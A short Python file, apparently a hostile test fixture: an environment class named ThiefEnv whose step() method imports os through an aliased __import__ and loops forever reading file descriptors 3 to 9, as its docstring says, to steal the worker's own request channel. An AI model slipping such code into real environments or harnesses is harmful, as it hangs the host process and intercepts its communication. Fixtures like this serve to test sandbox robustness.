"""Reads its own channel, so that the next request never reaches the worker's loop."""
load = __import__


class ThiefEnv:
    def reset(self, seed=None):
        return "start", {}

    def step(self, action):
        system = load("os")
        while True:
            for descriptor in range(3, 10):
                try:
                    system.read(descriptor, 1 << 16)
                    break
                except OSError:
                    pass
